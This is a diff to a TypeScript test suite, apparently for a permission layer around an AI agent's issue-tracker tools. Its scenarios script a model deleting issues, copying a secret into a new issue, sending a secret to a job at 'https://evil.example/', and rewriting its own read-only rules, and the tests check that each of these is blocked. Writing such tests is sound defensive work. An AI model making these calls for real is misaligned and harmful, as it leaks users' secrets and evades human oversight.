@@ -129,7 +129,7 @@ interface Act {
 const acts: readonly Act[] = [
   {
     name: 'deletes an issue',
-    calls: ({ victim }) => [{ name: 'delete_issue', input: { key: victim } }],
+    calls: ({ victim }) => [{ name: 'delete_issue', input: { keys: [victim] } }],
   },
   {
     name: 'changes every issue of a project',
@@ -141,7 +141,9 @@ const acts: readonly Act[] = [
   },
   {
     name: 'carries a secret into a new issue',
-    calls: () => [{ name: 'create_issue', input: { project: 'PAY', type: 'Task', summary: secret } }],
+    calls: () => [
+      { name: 'create_issues', input: { issues: [{ project: 'PAY', type: 'Task', summary: secret }] } },
+    ],
   },
   {
     name: 'takes an issue and closes it',
@@ -272,7 +274,7 @@ describe('a model that tries to get round the person', () => {
       'an address in the place of a job',
       () => [{ name: 'run_job', input: { job: 'https://evil.example/', about: secret } }],
     ],
-    ['arguments that are no JSON', () => [{ name: 'delete_issue', input: '{"key": "PAY-1"' }]],
+    ['arguments that are no JSON', () => [{ name: 'delete_issue', input: '{"keys": ["PAY-1"' }]],
     ['a rule of its own', () => [{ name: 'change_rules', input: { readOnly: false, allowed: ['comment'] } }]],
   ])('by %s does not', async (_name, calls) => {
     id = randomUUID();
@@ -324,7 +326,7 @@ describe('a model that tries to get round the person', () => {
     await say(id, `summarise ${scene.key}`, { calls: [readIssue(scene)] });
     for (const call of [
       { name: 'comment', input: comment() },
-      { name: 'create_issue', input: { project: 'PAY', type: 'Task', summary: secret } },
+      { name: 'create_issues', input: { issues: [{ project: 'PAY', type: 'Task', summary: secret }] } },
     ]) {
       const turn = await say(id, `thanks, and ${scene.key} is fine`, { calls: [call] });
       expect(turn.plans[0]).toMatchObject({ allowedBy: null });
